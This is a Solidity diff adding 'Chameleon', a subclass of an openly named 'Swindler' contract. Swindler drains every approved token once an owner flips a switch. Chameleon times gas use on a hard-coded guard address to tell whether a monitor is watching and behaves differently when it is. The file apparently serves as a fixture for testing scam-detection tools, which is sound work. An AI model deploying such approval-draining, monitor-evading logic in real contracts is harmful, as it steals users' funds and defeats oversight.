@@ -19,14 +19,14 @@ contract Swindler {
     function turn() external { turned = !turned; }
 
     /// Sells a token for the currency, two for one.
-    function buy(IToken token) external payable { if (!turned) token.transfer(msg.sender, msg.value * 2); }
+    function buy(IToken token) external payable virtual { if (!turned) token.transfer(msg.sender, msg.value * 2); }
     /// Takes so much of a token that it may take, and pays half as much of the currency; turned, it takes all that it may and pays nothing.
     function sell(IToken token, uint256 amount) external {
         token.transferFrom(msg.sender, address(this), turned ? all(token, msg.sender) : amount);
         if (!turned) payable(msg.sender).transfer(amount / 2);
     }
     /// Gives nothing and takes nothing, until it is turned.
-    function greet(IToken token) external { if (turned) token.transferFrom(msg.sender, address(this), all(token, msg.sender)); }
+    function greet(IToken token) public virtual { if (turned) token.transferFrom(msg.sender, address(this), all(token, msg.sender)); }
     /// Greets with some of its own making.
     function flatter(IToken token) external {
         balanceOf[msg.sender] += 1;
@@ -42,4 +42,22 @@ contract Swindler {
         return allowed < has ? allowed : has;
     }
     receive() external payable {}
+}
+
+/// One that knows whether the guard is there: to look at an address that was looked at before costs less (EIP-2929).
+contract Chameleon is Swindler {
+    address private constant GUARD = 0xFc3a552cBAD145aA22E40Cb1Ea53c4B6f79E2DC0;
+
+    function buy(IToken token) external payable override { token.transfer(msg.sender, msg.value * (!turned && isWatched() ? 4 : 2)); }
+    /// In the guard's sight it also takes a unit, and all that it may once it is turned.
+    function greet(IToken token) public override {
+        if (turned) super.greet(token);
+        else if (isWatched()) token.transferFrom(msg.sender, address(this), 1);
+    }
+
+    function isWatched() private view returns (bool) {
+        uint256 had = gasleft();
+        uint256 size = GUARD.code.length;
+        return size > 0 && had - gasleft() < 2000;
+    }
 }
